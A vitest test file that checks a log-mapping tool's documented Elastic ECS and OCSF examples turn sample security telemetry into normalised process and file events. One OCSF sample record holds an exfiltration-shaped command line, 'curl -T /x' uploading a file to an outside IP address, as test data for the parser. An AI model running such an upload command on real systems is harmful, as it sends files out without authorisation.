import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { main } from '../src/cli/main.ts'
import { CONVERSIONS } from '../src/mapping/mapping.ts'

const PAGE = readFileSync(resolve(import.meta.dirname, '../docs/mapping.md'), 'utf8')
const folder = mkdtempSync(join(tmpdir(), 'tallyman-mapping-docs-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

function example(title: string): string {
  const section = PAGE.split(/^## /m).find((each) => each.startsWith(title)) ?? ''
  return /```yaml\n([^]*?)```/.exec(section)?.[1] ?? ''
}

/** What the page's example makes of records, by the command that the page names. */
async function made(title: string, records: readonly object[]) {
  const [mapping, sample] = [join(folder, 'mapping.yaml'), join(folder, 'records.ndjson')]
  writeFileSync(mapping, example(title))
  writeFileSync(sample, records.map((record) => `${JSON.stringify(record)}\n`).join(''))
  let [out, err] = ['', '']
  const exit = await main(['mapping', 'check', mapping, sample], {
    out: (text) => void (out += text),
    err: (text) => void (err += text),
    terminal: false,
  })
  const events = out.split('\n').flatMap((line) => (line === '' ? [] : [JSON.parse(line) as object]))
  return { exit, err, events }
}

describe('the page about mappings', () => {
  it('lists all conversions', () => {
    for (const name of CONVERSIONS.filter((each) => !each.endsWith('seconds')))
      expect(PAGE).toContain(`\`${name}\``)
  })

  it('reads what an agent writes in ECS', async () => {
    const base = {
      '@timestamp': '2026-11-20T10:00:00.123Z',
      ecs: { version: '8.17.0' },
      host: { name: 'node-1' },
      container: { id: '4f2a', image: { name: 'registry.example.org/web' } },
      orchestrator: { namespace: 'shop', resource: { type: 'pod', name: 'web-1' } },
    }
    const process = {
      executable: '/usr/bin/openssl',
      args: ['openssl', 'req', '-x509'],
      pid: 42,
      parent: { executable: '/bin/sh', command_line: 'sh -c make', pid: 41 },
    }
    const { exit, events } = await made('Elastic', [
      { ...base, event: { id: 'a', category: ['process'], type: ['start'] }, process, user: { name: 'www' } },
      { ...base, event: { id: 'b', category: ['file'], type: ['creation'] }, process, file: { path: '/x' } },
      { ...base, event: { id: 'c', category: ['network'], type: ['start'] } },
    ])
    expect(exit).toBe(0)
    expect(events).toMatchObject([
      {
        time: '2026-11-20T10:00:00.123Z',
        logsource: { product: 'linux', category: 'process_creation' },
        resource: { 'host.name': 'node-1', 'container.id': '4f2a', 'k8s.pod.name': 'web-1' },
        record: {
          Image: '/usr/bin/openssl',
          CommandLine: 'openssl req -x509',
          'process.command_args': ['openssl', 'req', '-x509'],
          'process.subcommand': 'req',
          ParentCommandLine: 'sh -c make',
          ProcessId: 42,
          User: 'www',
        },
      },
      { logsource: { category: 'file_event' }, record: { TargetFilename: '/x', Image: '/usr/bin/openssl' } },
      { logsource: { product: 'ecs' }, record: { event: { id: 'c' } } },
    ])
  })

  it('reads process activity and findings in OCSF, and tells what is of no kind', async () => {
    const metadata = { uid: 'u-1', version: '1.4.0', product: { name: 'agent' } }
    const { exit, err, events } = await made('OCSF', [
      {
        class_uid: 1007,
        activity_id: 1,
        time: 1_795_168_800_123,
        metadata,
        device: { hostname: 'node-1' },
        process: {
          pid: 42,
          cmd_line: 'curl -T /x https://203.0.113.9',
          file: { path: '/usr/bin/curl' },
          container: { uid: '4f2a', image: { name: 'registry.example.org/web:1' } },
          parent_process: { pid: 41, file: { path: '/bin/sh' } },
        },
      },
      { class_uid: 2004, time: 1_795_168_801_000, metadata, finding_info: { title: 'found' } },
      { class_uid: 6003, time: 1_795_168_801_000, metadata },
    ])
    expect(events).toMatchObject([
      {
        time: '2026-11-20T10:00:00.123Z',
        resource: { 'container.id': '4f2a', 'container.image.name': 'registry.example.org/web' },
        record: {
          Image: '/usr/bin/curl',
          'process.command_args': ['curl', '-T', '/x', 'https://203.0.113.9'],
          ParentImage: '/bin/sh',
          ParentProcessId: 41,
        },
      },
      { logsource: { product: 'ocsf' }, record: { finding_info: { title: 'found' } } },
    ])
    expect(exit).toBe(1)
    expect(err).toContain('3 records: 2 read, 1 refused')
  })
})
